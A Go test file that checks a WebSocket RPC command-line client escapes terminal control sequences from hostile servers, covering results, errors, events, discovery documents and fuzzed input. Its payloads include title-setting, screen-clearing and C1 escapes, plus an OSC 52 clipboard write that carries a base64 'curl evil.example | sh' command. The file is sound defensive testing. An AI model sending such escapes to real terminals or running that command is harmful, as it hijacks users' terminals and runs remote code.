package main

import (
	"context"
	"encoding/json"
	"os"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/require"

	wsrpc "github.com/wsrpc/wsrpc-go"
	"github.com/wsrpc/wsrpc-go/server"
)

// The escapes a hostile server sends to take over a terminal: set its
// title, clear it, write the clipboard (OSC 52), and the one-byte C1 forms
// of CSI (U+009B) and OSC (U+009D).
const (
	escTitle     = "\x1b]0;pwned\a"
	escClear     = "\x1b[2J"
	escClipboard = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a"
	c1CSI        = "\u009b31m"
	c1OSC        = "\u009d0;title\u009c"
)

// hostile holds every payload, plus DEL and a byte of invalid UTF-8.
const hostile = escTitle + escClear + escClipboard + c1CSI + c1OSC + "\x7f" + "\xff"

// requireInert fails when out holds a byte that drives a terminal: a C0
// control other than newline and tab, DEL, a C1 control, or invalid UTF-8.
func requireInert(t *testing.T, out string) {
	t.Helper()
	require.True(t, utf8.ValidString(out), "invalid UTF-8 in %q", out)
	for _, r := range out {
		bad := r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r <= 0x9f
		require.False(t, bad, "control character %U in %q", r, out)
	}
}

func TestSafe(t *testing.T) {
	for _, tc := range []struct {
		name, in, human, json string
	}{
		{"plain text stays", "a b\tc\nd é → ✓", "a b\tc\nd é → ✓", ""},
		{"window title", escTitle, `\x1b]0;pwned\x07`, ""},
		{"clear screen", escClear, `\x1b[2J`, ""},
		{"clipboard", escClipboard, `\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`, ""},
		{"C1 CSI", c1CSI, `\u009b31m`, ""},
		{"C1 OSC and ST", c1OSC, `\u009d0;title\u009c`, ""},
		{"DEL, NUL, CR", "\x7f\x00\r", `\x7f\x00\x0d`, ""},
		{"invalid UTF-8", "a\xffb\xc3", `a\xffb\xc3`, ""},
		{"json string with C1 and DEL", `{"k":"` + c1CSI + "\x7f" + `"}`, "", `{"k":"\u009b31m\u007f"}`},
		{"json keeps its escapes", `{"k":"\u001b]0;x\u0007"}`, "", `{"k":"\u001b]0;x\u0007"}`},
		{"json with invalid UTF-8", "[\"\xff\"]", "", `["\ufffd"]`},
		{"json whitespace CR", "[1,\r2]", "", "[1, 2]"},
		{"not json: human escapes", "{\x1b[2J", "", `{\x1b[2J`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.human != "" {
				got := string(safe([]byte(tc.in), false))
				require.Equal(t, tc.human, got)
				requireInert(t, got)
			}
			if tc.json != "" {
				got := string(safe([]byte(tc.in), true))
				require.Equal(t, tc.json, got)
				requireInert(t, got)
				if json.Valid([]byte(tc.in)) {
					var a, b any
					require.NoError(t, json.Unmarshal([]byte(strings.ToValidUTF8(tc.in, "\ufffd")), &a))
					require.NoError(t, json.Unmarshal([]byte(got), &b))
					require.Equal(t, a, b, "the same JSON value")
				}
			}
		})
	}
}

// hostileServer answers every route with the payloads: in an error reply's
// type and message, in results, in events, and in its rpc.discover
// document.
func hostileServer(t *testing.T) string {
	t.Helper()
	reg := wsrpc.NewRegistry()
	var srv *server.Server
	reg.MustAdd("broadcast", func(ctx context.Context) error {
		for _, c := range srv.Clients() {
			if err := c.Emit(ctx, map[string]string{"e": hostile}); err != nil {
				return err
			}
		}
		return nil
	})
	reg.MustAdd("fail", func(ctx context.Context) error {
		return &wsrpc.Error{Type: "Err" + escTitle, Message: "bad " + hostile}
	})
	reg.MustAdd("echo", func(ctx context.Context) string { return hostile })
	reg.MustAdd("emit", func(ctx context.Context) error {
		return wsrpc.ConnFromContext(ctx).Emit(ctx, map[string]string{"e": hostile})
	})
	doc, err := os.ReadFile(introDoc)
	require.NoError(t, err)
	var d map[string]any
	require.NoError(t, json.Unmarshal(doc, &d))
	d["info"].(map[string]any)["title"] = "intro" + escTitle
	d["info"].(map[string]any)["description"] = escClear + escClipboard + c1CSI + c1OSC
	doc, err = json.Marshal(d)
	require.NoError(t, err)
	reg.MustAdd("rpc.discover", func() json.RawMessage { return doc })
	url, s := serve(t, reg, nil)
	srv = s
	return url
}

// Nothing a server sends reaches the terminal raw: error replies, results,
// -v traces, describe and its -json, in words and in -json errors.
func TestTerminalSafeOutput(t *testing.T) {
	url := hostileServer(t)
	for _, tc := range []struct {
		name   string
		args   []string
		code   int
		stdout string // a substring, escaped
		stderr string // a substring, escaped
	}{
		{"error reply", []string{"call", url, "fail"}, exitReply, "",
			`Err\x1b]0;pwned\x07: bad \x1b]0;pwned\x07\x1b[2J\x1b]52;c;`},
		{"error reply, -json", []string{"call", "-json", url, "fail"}, exitReply, "",
			`"type":"Err\u001b]0;pwned\u0007","message":"bad \u001b]0;pwned\u0007\u001b[2J`},
		{"result", []string{"call", url, "echo"}, exitOK, `\u009b31m\u009d0;title\u009c\u007f\ufffd`, ""},
		{"-v trace", []string{"call", "-v", url, "echo"}, exitOK, "", `< {"id":`},
		{"describe", []string{"describe", url}, exitOK, `intro\x1b]0;pwned\x07 0.0.0`, ""},
		{"describe description", []string{"describe", url}, exitOK, `\x1b[2J\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\u009b31m\u009d0;title\u009c`, ""},
		{"describe -json", []string{"describe", "-json", url}, exitOK, `"title":"intro\u001b]0;pwned\u0007"`, ""},
		{"repl", []string{"repl", url}, exitReply, `\u009b31m`, `Err\x1b]0;pwned\x07`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := cli(t, "echo\nfail\n", tc.args...)
			require.Equal(t, tc.code, got.code, "stderr %q", got.stderr)
			requireInert(t, got.stdout)
			requireInert(t, got.stderr)
			require.Contains(t, got.stdout, tc.stdout)
			require.Contains(t, got.stderr, tc.stderr)
		})
	}

	t.Run("listen events and -v", func(t *testing.T) {
		ctx, cancel := context.WithCancel(context.Background())
		defer cancel()
		var stdout, stderr syncBuffer
		done := make(chan int, 1)
		go func() {
			done <- run(ctx, []string{"listen", "-v", url}, strings.NewReader(""), &stdout, &stderr)
		}()
		// broadcast, called by another client once listen is connected,
		// emits to every client.
		require.Eventually(t, func() bool { return strings.Contains(stderr.String(), "< ") }, wait, 5*time.Millisecond)
		got := cli(t, "", "call", url, "broadcast")
		require.Equal(t, exitOK, got.code, got.stderr)
		require.Eventually(t, func() bool { return strings.Contains(stdout.String(), "\n") }, wait, 5*time.Millisecond)
		cancel()
		<-done
		require.Equal(t, `{"e":"\u001b]0;pwned\u0007\u001b[2J\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u009b31m\u009d0;title\u009c\u007f\ufffd"}`+"\n", stdout.String())
		requireInert(t, stderr.String())
	})
}

// FuzzSafe: whatever a peer sends, what safe prints drives no terminal,
// and JSON stays the same JSON value.
func FuzzSafe(f *testing.F) {
	for _, s := range []string{hostile, `{"k":"` + c1CSI + `"}`, "[\"\xff\"]", "[1,\r2]", "a\tb\nc", ""} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		human := safe(b, false)
		requireInert(t, string(human))
		out := safe(b, true)
		requireInert(t, string(out))
		if !json.Valid(b) {
			require.Equal(t, human, out, "JSON that is not valid is escaped as text")
			return
		}
		require.True(t, json.Valid(out), "%q → %q", b, out)
		var want, got any
		require.NoError(t, json.Unmarshal(b, &want)) // encoding/json reads invalid UTF-8 as U+FFFD
		require.NoError(t, json.Unmarshal(out, &got))
		require.Equal(t, want, got)
	})
}
